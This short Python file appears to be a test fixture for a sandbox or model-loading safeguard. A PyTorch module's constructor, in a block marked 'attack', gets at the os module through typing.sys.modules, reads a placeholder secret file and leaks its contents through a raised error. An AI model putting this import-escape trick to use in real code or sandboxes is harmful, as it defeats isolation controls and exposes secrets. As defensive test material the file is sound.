"""Finds `sys` in the typing module, `os` in its list of modules, and reads a secret with it."""

import typing

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        system = typing.sys.modules["os"]
        raise ValueError(system.read(system.open("@SECRET_FILE@", 0), 99))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
